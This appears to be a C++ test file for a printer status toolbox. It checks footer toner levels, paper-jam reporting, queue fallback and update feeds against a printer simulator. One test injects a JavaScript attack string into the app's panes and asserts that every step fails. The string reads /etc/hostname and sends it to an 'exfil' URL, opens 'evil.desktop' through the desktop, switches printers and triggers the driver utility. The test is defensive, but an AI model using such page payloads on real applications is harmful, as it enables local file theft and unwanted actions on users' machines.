// The footer's live status end to end: the program's window, the private print scheduler and
// the printer simulator serving the selected printer's status document.
#include "tests/main/app/WindowTestSupport.h"

#include "simulator/Simulator.h"

#include <httplib.h>

#include <optional>

using namespace kaldo;
using namespace kaldo::testsupport;

namespace {

// What the footer says when it shows the queue's state from the print system.
constexpr char kFromTheQueue[] = "Status from the print queue";

class LiveStatusTest : public WindowTest {
protected:
    void SetUp() override {
        WindowTest::SetUp();
        std::lock_guard lock(g_traceMutex);
        g_trace.clear();
    }

    // The printer behind Office_3020 (127.0.0.5) on a port of its own.
    void StartPrinter(std::vector<std::string> state = {}) {
        std::vector<std::string> arguments{"--quiet",     "--control",  "127.0.0.1:0", "--printer",
                                           "127.0.0.5:0", "--supplies", "mono"};
        arguments.insert(arguments.end(), state.begin(), state.end());
        simulator::SimulatorOptions options;
        std::string error;
        ASSERT_EQ(simulator::ParseSimulatorOptions(arguments, options, error),
                  simulator::ParseOutcome::Run)
            << error;
        ASSERT_TRUE(m_simulator.Start(options, error)) << error;
        m_services->PrinterWebPort = m_simulator.PrinterAddresses().at(0).Port;
    }

    // The content's maker-site addresses point at the simulator's site.
    void UseSimulatedSite() {
        const std::string site = "127.0.0.1:" + std::to_string(m_simulator.SiteAddress()->Port);
        for (const auto& folder : fs::directory_iterator(m_temp / "program/Data")) {
            const std::string file = (folder.path() / "toolboxinfo.xml").string();
            std::string text = ReadBytes(file);
            for (size_t at; (at = text.find("localhost:18080")) != std::string::npos;)
                text.replace(at, std::string("localhost:18080").size(), site);
            std::ofstream(file, std::ios::trunc) << text;
        }
    }

    void ChangePrinter(const httplib::Params& settings) {
        const auto control = *m_simulator.ControlAddress();
        auto result = httplib::Client(control.Host, control.Port).Post("/printer/0", settings);
        ASSERT_TRUE(result);
        ASSERT_EQ(result->status, 200) << result->body;
    }

    std::string Footer() const { return ReadBytes(m_context->FooterPagePath()); }
    std::string CurrentProblem() const {
        return ReadBytes(
            m_context->ContentPath(m_context->Printer().Config->Files().File_CurrentProblem));
    }
    // The footer page holds `text` and the footer pane shows that page.
    bool FooterSays(const std::string& text) {
        return WaitUntil([&] { return Footer().find(text) != std::string::npos; }) &&
               WaitForText(FooterPane(), text);
    }
    void ClickRefresh() { UserClick(FooterPane(), "a[href=\"util-rs:\"]"); }

    std::string SiteRequests() const {
        const auto control = *m_simulator.ControlAddress();
        auto result = httplib::Client(control.Host, control.Port).Get("/requests");
        return result ? result->body : std::string();
    }

    simulator::Simulator m_simulator;
};

// Stand-ins for the desktop's tools on PATH: the opener only notes what it was given, and
// every type has a default application, so that nothing stops short of the opener.
class RecordingDesktop {
public:
    explicit RecordingDesktop(const fs::path& folder)
        : m_log(folder / "opened.txt") {
        fs::create_directories(folder / "bin");
        std::ofstream(folder / "bin/xdg-open")
            << "#!/bin/sh\necho \"$@\" >> '" << m_log.string() << "'\n";
        std::ofstream(folder / "bin/xdg-mime") << "#!/bin/sh\necho stand-in.desktop\n";
        for (const char* tool : {"xdg-open", "xdg-mime"})
            fs::permissions(folder / "bin" / tool, fs::perms::owner_all);
        m_path.emplace("PATH",
                       ((folder / "bin").string() + ":" + qgetenv("PATH").toStdString()).c_str());
    }

    std::string Opened() const { return ReadBytes(m_log); }

private:
    fs::path m_log;
    std::optional<ScopedEnv> m_path;
};

// What a page tries by itself, one attempt after another: switch the printer, read a local
// file and send it to the site, have the desktop open local and fetched files, run the driver
// utility, refresh in a loop.
QString PageAttacks(const std::string& site) {
    return QStringLiteral(
               "var site = '%1'; var attempts = ["
               "function () { location.href = 'sp:Studio_C5100'; },"
               "function () { fetch('file:///etc/hostname').then(function (r) { return r.text(); })"
               "  .then(function (t) { location.href = site + 'exfil?d=' + t; })"
               "  .catch(function () { location.href = site + 'exfil?d=unread'; }); },"
               "function () { location.href = 'file:///etc/hostname#pdfs'; },"
               "function () { location.href = 'file:///etc/hostname?htmldocs'; },"
               "function () { location.href = 'pdfs/quick_setup.pdf'; },"
               "function () { location.href = 'doc:&FileName=evil.desktop'; },"
               "function () { location.href = 'video:&FileName=clear_paper_jam.webm'; },"
               "function () { location.href = 'ps:'; },"
               "function () { location.href = 'util-rs:'; },"
               "function () { window.open('sp:Studio_C5100'); },"
               "function () { document.forms.length && document.forms[0].submit(); },"
               "function () { window.attacksDone = true; }];"
               "attempts.forEach(function (a, i) { setTimeout(a, 150 * i); });")
        .arg(QString::fromStdString(site));
}

} // namespace

TEST_F(LiveStatusTest, StartUpCollectsThenShowsTheTonerLevel) {
    StartPrinter({"--toner", "black:37", "--delay", "2500"});
    Start("Office_3020");
    // The printer takes its time: the footer says so meanwhile.
    EXPECT_NE(Footer().find("Collecting Status"), std::string::npos);
    EXPECT_TRUE(FooterSays("width:37%")) << Footer();
    EXPECT_EQ(Footer().find("Collecting Status"), std::string::npos);
    EXPECT_TRUE(TraceHas("RetrieveStatus for: "));
    EXPECT_TRUE(WaitForPage(FooterPane(), m_context->FooterPagePath()));
}

TEST_F(LiveStatusTest, PaperJamShowsItsSolutionAfterRefresh) {
    StartPrinter();
    Start("Office_3020");
    ASSERT_TRUE(FooterSays("width:80%")) << Footer();
    EXPECT_EQ(CurrentProblem().find("Paper jam"), std::string::npos);

    ChangePrinter({{"alert", "paperJam"}});
    ClickRefresh();
    EXPECT_TRUE(FooterSays("Paper jam in tray 1")) << Footer();
    EXPECT_NE(CurrentProblem().find("Paper jam"), std::string::npos);
}

TEST_F(LiveStatusTest, PrinterThatStopsAnsweringShowsItsQueueStateInstead) {
    StartPrinter();
    Start("Office_3020");
    ASSERT_TRUE(FooterSays("width:80%")) << Footer();
    m_simulator.Stop();
    ClickRefresh();
    EXPECT_TRUE(FooterSays(kFromTheQueue)) << Footer();
    EXPECT_EQ(Footer().find("width:80%"), std::string::npos);
    EXPECT_EQ(Footer().find("Status Unavailable"), std::string::npos);
}

TEST_F(LiveStatusTest, UsbPrinterWithoutUsbStatusShowsItsQueueState) {
    Start("Desk_C5200");
    EXPECT_TRUE(FooterSays(kFromTheQueue)) << Footer();
    EXPECT_EQ(Footer().find("Status is not available using a USB connection."), std::string::npos);
}

// The printer behind Studio_C5100 has no status page; its backend tells the scheduler about the
// supplies and a jam while a job runs, and the footer and current problem follow.
TEST_F(LiveStatusTest, QueueStateFromTheBackendFillsFooterAndCurrentProblem) {
    ASSERT_TRUE(s_cups->SetBackendReport("Studio_C5100",
                                         "ATTR: marker-names=Black,Cyan,Magenta,Yellow\n"
                                         "ATTR: marker-types=toner,toner,toner,toner\n"
                                         "ATTR: marker-colors=#000000,#00FFFF,#FF00FF,#FFFF00\n"
                                         "ATTR: marker-levels=37,64,8,90\n"
                                         "STATE: +media-jam-error\n"));
    ASSERT_TRUE(s_cups->PrintRaw("Studio_C5100", "a page\n")) << s_cups->Error();
    ASSERT_TRUE(s_cups->WaitUntilIdle("Studio_C5100")) << s_cups->Error();
    Start("Studio_C5100");
    EXPECT_TRUE(FooterSays("width:37%")) << Footer();
    EXPECT_NE(Footer().find("<i class=\"magenta\" style=\"width:8%\">"), std::string::npos);
    EXPECT_NE(CurrentProblem().find("<h2>Paper jam</h2>"), std::string::npos) << CurrentProblem();

    // The jam is cleared; the next refresh says so.
    ASSERT_TRUE(s_cups->SetBackendReport("Studio_C5100", "STATE: -media-jam-error\n"));
    ASSERT_TRUE(s_cups->PrintRaw("Studio_C5100", "a page\n")) << s_cups->Error();
    ASSERT_TRUE(s_cups->WaitUntilIdle("Studio_C5100")) << s_cups->Error();
    ClickRefresh();
    EXPECT_TRUE(WaitUntil([&] {
        return CurrentProblem().find("No problems reported") != std::string::npos;
    })) << CurrentProblem();
    EXPECT_TRUE(FooterSays("width:37%")) << Footer();
}

TEST_F(LiveStatusTest, NewerUpdateFeedIsAnnouncedAndAppliedOnce) {
    StartPrinter({"--site", "127.0.0.1:0", "--feed-date", "Wed, 10 Jun 2026 12:00:00 GMT"});
    UseSimulatedSite();
    Start("Office_3020");
    ASSERT_TRUE(
        WaitUntil([&] { return m_context->UpdateState() == UpdateState::UpdatesAvailable; }));
    ClickRefresh();
    // The live page, not the one that says the status is being collected.
    ASSERT_TRUE(FooterSays("What's New?") && FooterSays("width:80%")) << Footer();

    // The model page link takes the new feed as the current one; the notice goes.
    UserClick(FooterPane(), "a[href=\"printermodelurl:\"]");
    EXPECT_TRUE(
        WaitUntil([&] { return m_context->UpdateState() == UpdateState::NoUpdatesPending; }));
    const std::string current = m_context->Folders().XmlFolder + "/KTWUpdates.xml";
    EXPECT_TRUE(
        WaitUntil([&] { return ReadBytes(current).find("10 Jun 2026") != std::string::npos; }));
    EXPECT_FALSE(fs::exists(m_context->Folders().XmlFolder + "/KTWUpdates_new.xml"));
    EXPECT_TRUE(WaitUntil([&] {
        return Footer().find("width:80%") != std::string::npos &&
               Footer().find("What's New?") == std::string::npos;
    })) << Footer();
}

TEST_F(LiveStatusTest, EachContentFolderShowsAndAppliesItsOwnUpdateNotice) {
    StartPrinter({"--site", "127.0.0.1:0", "--feed-date", "Wed, 10 Jun 2026 12:00:00 GMT"});
    UseSimulatedSite();
    // The studio model's content has no feed on the site, so no update.
    const std::string studioInfo = m_temp / "program/Data/presslane_c5000/toolboxinfo.xml";
    std::string text = ReadBytes(studioInfo);
    text.replace(text.find("/updates/"), std::string("/updates/").size(), "/no-updates/");
    std::ofstream(studioInfo, std::ios::trunc) << text;

    Start("Office_3020");
    const std::string officeXml = m_context->Folders().XmlFolder;
    ASSERT_TRUE(
        WaitUntil([&] { return m_context->UpdateState() == UpdateState::UpdatesAvailable; }));

    ASSERT_TRUE(m_context->SelectPrinterByName("Studio_C5100"));
    ASSERT_NE(m_context->Folders().XmlFolder, officeXml);
    ASSERT_TRUE(
        WaitUntil([&] { return m_context->UpdateState() == UpdateState::NoUpdatesPending; }));
    m_context->RefreshStatus();
    ASSERT_TRUE(FooterSays(kFromTheQueue)) << Footer();
    EXPECT_EQ(Footer().find("What's New?"), std::string::npos) << Footer();
    // The studio's model-page link (its footer shows none) applies nothing of the office's.
    const std::string officeFeed = ReadBytes(officeXml + "/KTWUpdates.xml");
    EXPECT_TRUE(m_context->Dispatch(*BodyPane(), "printermodelurl:", NavigationStart::User));
    EXPECT_EQ(ReadBytes(officeXml + "/KTWUpdates.xml"), officeFeed);

    ASSERT_TRUE(m_context->SelectPrinterByName("Office_3020"));
    EXPECT_EQ(m_context->UpdateState(), UpdateState::UpdatesAvailable);
    ClickRefresh();
    EXPECT_TRUE(FooterSays("What's New?") && FooterSays("width:80%")) << Footer();
}

// Pages from a hostile site arrive without anything that acts, and what a page's script tries
// by itself in the program's own pages does nothing: the printer stays, nothing is sent to the
// site, the desktop is never called and the pane is not reloaded.
TEST_F(LiveStatusTest, HostileSiteAndPageScriptsActForNobody) {
    StartPrinter({"--site", "127.0.0.1:0", "--hostile", "yes"});
    UseSimulatedSite();
    RecordingDesktop desktop(m_temp / "desktop");
    const std::string site =
        "http://127.0.0.1:" + std::to_string(m_simulator.SiteAddress()->Port) + "/";
    Start("Office_3020");

    const std::string whatsnew = m_context->ContentPath("whatsnew.html");
    ASSERT_TRUE(WaitUntil([&] {
        return ReadBytes(whatsnew).find("News from the Kaldo web site") != std::string::npos;
    })) << ReadBytes(whatsnew);
    EXPECT_EQ(ReadBytes(whatsnew).find("<script"), std::string::npos);
    // The footer has shown the printer's status and stays.
    ASSERT_TRUE(FooterSays("width:80%")) << Footer();

    for (BrowserHost* pane : {BodyPane(), HeaderPane(), FooterPane()}) {
        const std::string page = PageOf(pane);
        ASSERT_EQ(Js(pane, "window.kept = 42").toInt(), 42);
        RunInPane(pane, PageAttacks(site));
        ASSERT_TRUE(WaitUntil([&] { return Js(pane, "window.attacksDone === true").toBool(); }))
            << page;
        EXPECT_EQ(Js(pane, "window.kept").toInt(), 42) << page; // never reloaded
        EXPECT_EQ(PageOf(pane), page);
    }

    BodyPane()->Navigate(whatsnew);
    ASSERT_TRUE(WaitForPage(BodyPane(), whatsnew));
    // The hostile page's own attempts were a few hundred milliseconds apart.
    WaitUntil([] { return false; }, 3000);
    EXPECT_EQ(PageOf(BodyPane()), whatsnew);

    EXPECT_EQ(m_context->Printer().SelectedPrinter, "Office_3020");
    EXPECT_EQ(desktop.Opened(), "");
    const std::string requests = SiteRequests();
    EXPECT_EQ(requests.find("exfil"), std::string::npos) << requests;
    EXPECT_NE(requests.find("whatsnew.html"), std::string::npos) << requests;
    EXPECT_FALSE(TraceHas("driver utility"));
}
